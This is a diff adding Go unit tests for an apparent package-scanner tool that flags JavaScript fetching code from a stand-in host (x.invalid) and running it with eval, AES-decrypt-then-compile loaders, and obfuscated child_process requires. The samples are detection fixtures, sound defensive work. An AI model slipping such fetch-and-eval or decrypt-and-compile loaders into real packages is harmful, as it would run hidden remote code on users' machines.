@@ -1,0 +1,47 @@
+package code
+
+import (
+	"testing"
+
+	"github.com/depfence/depfence/internal/finding"
+	rt "github.com/depfence/depfence/internal/rules/rulestest"
+)
+
+func TestDynamicEval(t *testing.T) {
+	rt.Check(t, DynamicEval{}, []rt.Case{
+		{"decoded", map[string]string{"index.js": `eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString())`}, finding.SeverityHigh},
+		{"variable", map[string]string{"index.js": `module.exports = (s) => eval(s)`}, finding.SeverityLow},
+		{"global_this_polyfill", map[string]string{"index.js": `var g = Function("return this")()`}, finding.SeverityNone},
+		{"comment_only", map[string]string{"index.js": "// eval(atob('eA=='))\nmodule.exports = 1"}, finding.SeverityNone},
+	})
+}
+
+func TestRemoteEval(t *testing.T) {
+	rt.Check(t, RemoteEval{}, []rt.Case{
+		{"await_axios", map[string]string{"index.js": `const axios = require("axios"); (async () => { const r = await axios.get("https://x.invalid/c"); eval(r.data.code) })()`}, finding.SeverityCritical},
+		{"https_callback", map[string]string{"index.js": `require("https").get("https://x.invalid", res => { let b=""; res.on("data", d => b += d); res.on("end", () => new Function(res.body)()) })`}, finding.SeverityCritical},
+		{"fetch_then", map[string]string{"index.js": `fetch("https://x.invalid/p").then(resp => eval(resp.text))`}, finding.SeverityCritical},
+		{"eval_unrelated", map[string]string{"index.js": `const r = await fetch(u); const tpl = load(); eval(tpl)`}, finding.SeverityNone},
+	})
+}
+
+func TestDecodeExecute(t *testing.T) {
+	blob := ""
+	for i := 0; i < 40; i++ {
+		blob += "Y29uc29sZS5sb2coMSk7"
+	}
+	rt.Check(t, DecodeExecute{}, []rt.Case{
+		{"decipher_compile", map[string]string{"index.js": `const c = require("crypto"); const d = c.createDecipheriv("aes-256-cbc", k, iv); const m = new module.constructor(); m._compile(d.update(p, "hex", "utf8"), "x")`}, finding.SeverityCritical},
+		{"eval_long_blob", map[string]string{"index.js": `eval(atob("` + blob + `"))`}, finding.SeverityCritical},
+		{"decipher_only", map[string]string{"index.js": `const c = require("crypto"); module.exports = (k, iv, p) => c.createDecipheriv("aes-256-cbc", k, iv).update(p)`}, finding.SeverityNone},
+	})
+}
+
+func TestComputedRequire(t *testing.T) {
+	rt.Check(t, ComputedRequire{}, []rt.Case{
+		{"decoded_hex_helper", map[string]string{"index.js": `function d(x){return Buffer.from(x,"hex").toString()} var m = require(d("2e2f64617461"))`}, finding.SeverityCritical},
+		{"concatenated_core", map[string]string{"index.js": `const cp = require("child_" + "process")`}, finding.SeverityHigh},
+		{"plugin_loader", map[string]string{"index.js": `module.exports = name => require("./plugins/" + name)`}, finding.SeverityNone},
+		{"plain", map[string]string{"index.js": `require("child_process")`}, finding.SeverityNone},
+	})
+}
